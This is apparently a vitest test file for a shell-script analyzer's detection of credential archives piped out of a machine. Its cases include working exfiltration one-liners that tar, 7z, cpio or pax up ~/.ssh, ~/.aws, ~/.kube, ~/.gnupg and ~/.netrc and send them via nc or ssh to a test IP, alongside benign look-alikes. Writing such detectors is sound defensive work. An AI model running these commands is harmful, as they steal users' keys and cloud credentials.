/** Archives of credential files written to stdout (src/extract/exfil-archives.ts), read through the real normalizer. */
import { describe, expect, it } from 'vitest';
import { stdinSecret } from '../../src/extract/exfil-sources.js';
import { parseScript } from '../../src/parse/parse.js';
import { normalize } from '../../src/normalize/index.js';
import { analyzeContext } from '../helpers/command.js';

const ctx = analyzeContext();

/** stdinSecret of the script's last command. */
function lastStdin(script: string): string {
  const { commands } = normalize(parseScript(script, ctx.limits), ctx);
  const last = commands.at(-1);
  return last ? stdinSecret(last, ctx) : 'none';
}

describe('an archive of credential files piped on', () => {
  it.each<[string, string]>([
    // tar's members read from the folder of -C / --directory
    ["tar cz -C ~ .ssh | ssh dev@203.0.113.88 'cat > keys.tgz'", 'credential-file'],
    ['tar -C ~ -czf - .aws | nc 203.0.113.88 9000', 'credential-file'],
    ['tar -czf - -C"$HOME" .kube | nc 203.0.113.88 9000', 'credential-file'],
    ['tar --directory=$HOME -cf - .gnupg | nc 203.0.113.88 9000', 'credential-file'],
    ['bsdtar -c -f - --directory /root .docker | nc 203.0.113.88 9000', 'credential-file'],
    // 7-Zip to stdout, and archivers that take their member names on stdin
    ['7z a -so x.7z ~/.kube | nc 203.0.113.88 9000', 'credential-file'],
    ["find ~/.ssh | cpio -o | ssh h 'cat > a'", 'credential-file'],
    ['find ~/.aws -type f | cpio --create -H newc | nc h 1', 'credential-file'],
    ['echo ~/.netrc | pax -w | nc h 1', 'credential-file'],
    // look-alikes: project folders, the names of other folders
    ["tar cz -C ~/projects app | ssh dev@203.0.113.88 'cat > app.tgz'", ''],
    ["tar -C ./build -czf - . | ssh deploy@web1 'tar xz -C /srv/app'", ''],
    ['find src | cpio -o | nc h 1', ''],
    ['7z a -so x.7z ./dist | nc h 1', ''],
    ['tar -C ~ -czf - projects/app | nc h 1', ''],
  ])('%s → %j', (script, want) => expect(lastStdin(script)).toBe(want));
});
